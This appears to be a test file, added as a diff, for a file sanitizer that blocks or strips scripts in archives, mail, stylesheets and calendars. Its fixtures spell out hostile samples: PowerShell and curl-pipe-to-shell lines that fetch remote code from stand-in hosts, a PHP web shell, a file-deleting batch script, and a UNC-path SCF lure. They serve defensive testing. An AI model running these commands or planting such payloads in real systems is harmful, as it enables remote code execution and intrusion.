@@ -1,0 +1,165 @@
+"""Texts that act when they are opened: none is released as sanitized as it was, bare, in archives, in mail, or under
+another name; and what only looks like one stays."""
+
+import gzip
+import io
+import tarfile
+import zipfile
+from email.message import EmailMessage
+
+import pytest
+from gateway import run
+
+JS = 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc.exe");\n'
+VBS = 'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc.exe"\n'
+PS1 = "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://a.example/x')\n"
+SCRIPTS = {
+    "a.js": JS,
+    "a.jse": "#@~^XgAAAA==" + JS,
+    "a.vbs": VBS,
+    "a.ps1": PS1,
+    "a.bat": "@echo off\r\nstart calc.exe\r\n",
+    "a.cmd": "cd %TEMP%\r\npowershell -c calc\r\ndel /q *.*\r\n",
+    "a.wsf": '<job id="x"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></job>',
+    "a.sct": '<?xml version="1.0"?><scriptlet><registration progid="x"><script language="JScript">x</script></registration></scriptlet>',
+    "a.reg": "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n\"a\"=\"b\"\r\n",
+    "a.url": "[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n",
+    "a.scf": "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\x\\a.ico\r\n",
+    "a.iqy": "WEB\r\n1\r\nhttp://evil.example/x\r\n",
+    "a.slk": 'ID;PWXL;N;E\r\nC;Y1;X1;EEXEC("calc.exe")\r\nE\r\n',
+    "a.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://evil.example | sh'\n",
+    "a.py": "import os\nos.system('id')\n",
+    "a.sh": "#!/bin/sh\ncurl http://evil.example | sh\n",
+    "a.php": "<?php system($_GET['c']); ?>",
+    "a.ps": "%!PS-Adobe-3.0\n(%pipe%id) (w) file pop\n",
+}
+INNOCENT = {
+    "notes.txt": "Dear Jane,\n\nthe macro calls CreateObject(\"Word\").\nPlease remove it.\n\nYours\nJohn\n",
+    "manual.md": "# Setup\n\nTo begin, open a terminal.\n\n```\ncurl https://a.example\n```\n\nThen restart the machine.\n",
+    "app.log": "2026-01-01 12:00:00 INFO powershell started by Jane\n2026-01-01 12:00:01 WARN cmd.exe ended\n",
+    "main.rs": "use std::process::Command;\nfn main() {\n    Command::new(\"ls\").status().unwrap();\n}\n",
+    "settings.ini": "[server]\nname = a\nport = 80\n",
+    "data.csv": "id,name\n1,powershell\n",
+    "README": "Read me.\n",
+}
+
+
+def sanitized(tmp_path, name, data, *more):
+    source, target = tmp_path / name, tmp_path / "out"
+    source.write_bytes(data if isinstance(data, bytes) else data.encode())
+    target.unlink(missing_ok=True)
+    done = run("sanitize", source, target, *more)
+    return done, target.read_bytes() if done.returncode == 0 else None
+
+
+def zipped(members):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def unzipped(data):
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def test_a_script_is_refused(tmp_path):
+    for name, text in SCRIPTS.items():
+        done, clean = sanitized(tmp_path, name, text)
+        assert clean is None and done.returncode == 1 and "it is a script" in done.err, name
+
+
+@pytest.mark.parametrize("other", ["photo.jpg", "letter.txt", "table.csv", "page.md", "noending", "x.docx", "a.unheard"])
+def test_a_script_is_known_whatever_it_is_called(tmp_path, other):
+    members = {f"{name}/{other}": text for name, text in SCRIPTS.items()}
+    members |= {f"{name}/16/{other}": text.encode("utf-16") for name, text in SCRIPTS.items()}
+    _, clean = sanitized(tmp_path, "a.zip", zipped({**members, **{name.upper(): text for name, text in SCRIPTS.items()}}))
+    assert unzipped(clean) == {}
+    assert sanitized(tmp_path, other, VBS)[1] is None
+
+
+def test_scripts_in_archives_are_left_out(tmp_path):
+    members = {**SCRIPTS, "photo.jpg": VBS, "deep/inner.zip": zipped({"x/a.js": JS, "b.txt": "hello"}), "ok.txt": "hello"}
+    done, clean = sanitized(tmp_path, "a.zip", zipped(members))
+    left = unzipped(clean)
+    assert list(left) == ["deep/inner.zip", "ok.txt"], left
+    with zipfile.ZipFile(io.BytesIO(clean)) as archive:
+        assert unzipped(archive.read("deep/inner.zip")) == {"b.txt": b"hello"}
+    assert f"{len(SCRIPTS) + 2} parts were left out" in done.err
+
+
+def test_scripts_in_tar_and_gzip_are_left_out_and_nothing_may_be_run(tmp_path):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as archive:
+        for name, data in {**SCRIPTS, "ok": "hello"}.items():
+            member = tarfile.TarInfo(name)
+            member.size, member.mode = len(data.encode()), 0o755
+            archive.addfile(member, io.BytesIO(data.encode()))
+    _, clean = sanitized(tmp_path, "a.tar", out.getvalue())
+    with tarfile.open(fileobj=io.BytesIO(clean)) as archive:
+        assert [(member.name, member.mode) for member in archive] == [("ok", 0o644)]
+    for name, text in {**SCRIPTS, "b.js": "alert(1)"}.items():
+        assert sanitized(tmp_path, name + ".gz", gzip.compress(text.encode()))[1] is None, name
+
+
+def test_scripts_in_mail_are_left_out_where_attachments_stay(tmp_path):
+    message = EmailMessage()
+    message["Subject"] = "files"
+    message.set_content("see the files")
+    for name, text in {**SCRIPTS, "photo.jpg": VBS, "picture.png": "no picture"}.items():
+        message.add_attachment(text.encode(), maintype="application", subtype="octet-stream", filename=name)
+    message.add_attachment("hello", filename="ok.txt")
+    message.add_attachment("alert(2)", filename="two.txt", params={"name": "two.js"})
+    _, clean = sanitized(tmp_path, "a.eml", message.as_bytes(), "--keep-attachments")
+    assert b"ok.txt" in clean
+    assert b"alert" not in clean
+    for name in [*SCRIPTS, "photo.jpg", "picture.png"]:
+        assert f'"{name}"'.encode() not in clean, name
+
+
+def test_scripts_are_released_as_text_where_that_is_wanted(tmp_path):
+    _, clean = sanitized(tmp_path, "a.zip", zipped({"d/a.vbs": VBS, "d/a.vbs.txt": "hello"}), "--scripts", "text")
+    assert unzipped(clean) == {"d/a.vbs-2.txt": VBS.encode(), "d/a.vbs.txt": b"hello"}
+    done, clean = sanitized(tmp_path, "a.ps1", PS1, "--scripts", "text", "--keep-links")
+    assert clean.decode() == PS1 and "should be called a.ps1.txt" in done.err
+    done, clean = sanitized(tmp_path, "a.ps1", PS1, "--scripts", "pass", "--keep-links")
+    assert clean.decode() == PS1 and "should be called" not in done.err
+    config = tmp_path / "c.toml"
+    config.write_text('[sanitize]\nscripts = "text"\n')
+    assert sanitized(tmp_path, "a.ps1", PS1, "-c", config)[1] is not None
+    config.write_text('[sanitize]\nscripts = "maybe"\n')
+    assert "scripts" in sanitized(tmp_path, "a.ps1", PS1, "-c", config)[0].err
+
+
+def test_a_name_that_does_not_fit_is_put_right(tmp_path):
+    members = {"photo.jpg": "no picture", "page.hta": "<html><p>hello</p></html>", "notes.txt": "hello", "a.pdf": "<html><p>x</p></html>"}
+    done, clean = sanitized(tmp_path, "a.zip", zipped(members))
+    assert sorted(unzipped(clean)) == ["a.pdf.html", "notes.txt", "page.hta.html", "photo.jpg.txt"]
+    assert "3 names did not fit" in done.err
+
+
+def test_style_sheets_lose_their_scripts(tmp_path):
+    sheet = (
+        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt">'
+        '<m:script language="JScript">function f(){ new ActiveXObject("WScript.Shell").Run("calc"); }</m:script>'
+        '<xsl:template match="/"><b/></xsl:template></xsl:stylesheet>'
+    )
+    _, clean = sanitized(tmp_path, "a.xsl", sheet)
+    assert b"ActiveX" not in clean and b"template" in clean
+
+
+def test_calendars_lose_what_acts(tmp_path):
+    entry = (
+        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:TVqQ\r\n"
+        "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/calc.exe\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+    )
+    _, clean = sanitized(tmp_path, "a.ics", entry)
+    assert clean.decode() == "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+
+
+def test_what_only_speaks_of_scripts_stays(tmp_path):
+    for name, text in INNOCENT.items():
+        done, clean = sanitized(tmp_path, name, text, "--keep-links")
+        assert clean == text.encode() and "should be called" not in done.err, (name, done.err)
